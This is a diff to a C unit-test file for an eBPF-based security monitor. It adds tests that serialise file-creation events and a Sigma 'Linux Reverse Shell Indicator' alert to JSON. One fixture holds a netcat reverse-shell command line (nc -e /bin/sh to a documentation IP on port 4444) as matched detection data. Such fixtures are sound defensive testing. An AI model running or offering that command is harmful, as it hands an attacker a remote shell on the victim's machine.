@@ -208,8 +208,8 @@ static void exec_set_args(struct clawos_exec_event *e, const char *const *argv, 
 		memcpy(e->args + off, argv[i], n);
 		off += n;
 	}
-	e->argc = argc;
 	e->args_len = (uint16_t)off;
+	e->hdr.size = (uint16_t)(CLAWOS_EXEC_FIXED_SIZE + off); /* variable size */
 }
 
 static void test_exec(void **state)
@@ -225,6 +225,7 @@ static void test_exec(void **state)
 	e.flags = CLAWOS_EXEC_F_ARGS_TRUNCATED;
 	e.mechanism = CLAWOS_MECH_TRACEPOINT;
 	e.old_tid = 4243;
+	snprintf(e.cwd, sizeof(e.cwd), "/home/alice/src");
 	back = check_golden("exec", event_to_json(&e.hdr, &test_ctx));
 	assert_string_equal(get_str(back, "event", NULL), "exec");
 	assert_string_equal(get_str(back, "time", NULL), "2026-01-02T03:04:05.123456789Z");
@@ -245,7 +246,7 @@ static void test_exec_failed(void **state)
 	e.hdr.ppid = 0; /* the context's ppid fills in */
 	snprintf(e.filename, sizeof(e.filename), "/usr/local/bin/nosuch");
 	exec_set_args(&e, argv, ELEMENTSOF(argv));
-	e.flags = CLAWOS_EXEC_F_FAILED | CLAWOS_EXEC_F_EXECVEAT;
+	e.flags = CLAWOS_EXEC_F_FAILED | CLAWOS_EXEC_F_EXECVEAT | CLAWOS_EXEC_F_CWD_TRUNCATED;
 	e.ret = -ENOENT;
 	e.mechanism = CLAWOS_MECH_TRACEPOINT;
 	e.old_tid = 4243;
@@ -363,6 +364,29 @@ static void test_file_enoent(void **state)
 	assert_string_equal(get_str(back, "file", "result"), "-2");
 	assert_string_equal(get_str(back, "file", "syscall"), "openat2");
 	assert_false(has_key(back, "file", "path_raw"));
+	json_object_put(back);
+}
+
+/* O_CREAT on a name that did not exist: the kernel marked it created */
+static void test_file_created(void **state)
+{
+	static const char path[] = "/tmp/x/../payload.sh";
+	struct clawos_file_event e = {};
+	struct json_object *back;
+
+	hdr_fill(&e.hdr, CLAWOS_EV_FILE, sizeof(e));
+	memcpy(e.path, path, sizeof(path));
+	e.path_len = sizeof(path);
+	e.path_flags = CLAWOS_PATH_F_RESOLVED | CLAWOS_PATH_F_CREATED;
+	e.op = CLAWOS_FILE_OP_OPEN;
+	e.mechanism = CLAWOS_MECH_TRACEPOINT;
+	e.flags = 01 | 0100 | 01000; /* O_WRONLY|O_CREAT|O_TRUNC, as creat(2) */
+	e.mode = 0755;
+	e.dirfd = -100;
+	e.ret = 3;
+	back = check_golden("file-created", event_to_json(&e.hdr, &test_ctx));
+	assert_string_equal(get_str(back, "file", "created"), "true");
+	assert_string_equal(get_str(back, "file", "path"), "/tmp/payload.sh");
 	json_object_put(back);
 }
 
@@ -550,6 +574,69 @@ static void test_anomaly_file_violation(void **state)
 	json_object_put(back);
 }
 
+/* A Sigma hit: rule and trigger come from user space, beyond the wire
+ * record's fields (a rule id is longer than the wire's 31 bytes). */
+static void test_anomaly_sigma(void **state)
+{
+	static const char *const tags[] = {"attack.execution", "attack.t1059.004"};
+	static const char *const names[] = {"Image", "CommandLine"};
+	/* a value is bounded by its length, not by a NUL */
+	static const char *const values[] = {"/usr/bin/nc", "nc -e /bin/sh 192.0.2.1 4444 and more"};
+	static const uint32_t lens[] = {11, 28};
+	struct event_sigma sg = {
+	    .id = "83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871",
+	    .title = "Linux Reverse Shell Indicator",
+	    .level = "critical",
+	    .status = "test",
+	    .category = "process_creation",
+	    .file = "/etc/clawos-ebpf/sigma/rev.yml",
+	    .tags = tags,
+	    .n_tags = ELEMENTSOF(tags),
+	    .matched_names = names,
+	    .matched_values = values,
+	    .matched_lens = lens,
+	    .n_matched = ELEMENTSOF(names),
+	    .subject = "/usr/bin/nc",
+	    .trigger_event = "exec",
+	    .trigger_cpu = 1,
+	    .trigger_seq = 777,
+	};
+	struct clawos_anomaly_event e = {};
+	struct event_context ctx = test_ctx;
+	struct json_object *back, *sigma;
+
+	hdr_fill(&e.hdr, CLAWOS_EV_ANOMALY, sizeof(e));
+	e.hdr.cpu = CLAWOS_CPU_USER;
+	e.kind = CLAWOS_ANOMALY_SIGMA;
+	e.severity = CLAWOS_SEV_CRITICAL;
+	e.mechanism = CLAWOS_MECH_USER;
+	snprintf(e.rule, sizeof(e.rule), "%s", sg.id); /* cut: the JSON has it whole */
+	snprintf(e.description, sizeof(e.description), "%s", sg.title);
+	e.ancestry_len = 1;
+	e.ancestry[0].pid = 4000;
+	snprintf(e.ancestry[0].comm, sizeof(e.ancestry[0].comm), "bash");
+	ctx.sigma = &sg;
+	back = check_golden("anomaly-sigma", event_to_json(&e.hdr, &ctx));
+	assert_string_equal(get_str(back, "anomaly", "kind"), "sigma");
+	assert_string_equal(get_str(back, "anomaly", "rule"), "83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871");
+	assert_string_equal(get_str(back, "anomaly", "subject"), "/usr/bin/nc");
+	sigma = json_object_object_get(json_object_object_get(back, "anomaly"), "sigma");
+	assert_string_equal(
+	    json_object_get_string(json_object_object_get(json_object_object_get(sigma, "matched"), "CommandLine")),
+	    "nc -e /bin/sh 192.0.2.1 4444");
+	assert_int_equal(json_object_get_int(json_object_object_get(
+			     json_object_object_get(json_object_object_get(back, "anomaly"), "trigger"), "seq")),
+			 777);
+	json_object_put(back);
+	/* without its context (a fuzzed or foreign record) it is still one object */
+	ctx.sigma = NULL;
+	back = json_tokener_parse(event_to_json(&e.hdr, &ctx));
+	assert_non_null(back);
+	assert_string_equal(get_str(back, "anomaly", "rule"), "83dcd9f6-9ca8-4af7-a16e-a1c7a6b"); /* 31 bytes */
+	assert_null(json_object_object_get(json_object_object_get(back, "anomaly"), "sigma"));
+	json_object_put(back);
+}
+
 /* ---- process lifecycle ---- */
 
 static void test_process_fork_exit(void **state)
@@ -711,9 +798,11 @@ int main(void)
 	const struct CMUnitTest tests[] = {
 	    cmocka_unit_test(test_exec),
 	    cmocka_unit_test(test_exec_failed),
+	    cmocka_unit_test(test_anomaly_sigma),
 	    cmocka_unit_test(test_file_escapes),
 	    cmocka_unit_test(test_file_unterminated),
 	    cmocka_unit_test(test_file_normalized),
+	    cmocka_unit_test(test_file_created),
 	    cmocka_unit_test(test_file_enoent),
 	    cmocka_unit_test(test_network_connect4),
 	    cmocka_unit_test(test_network_bind6),
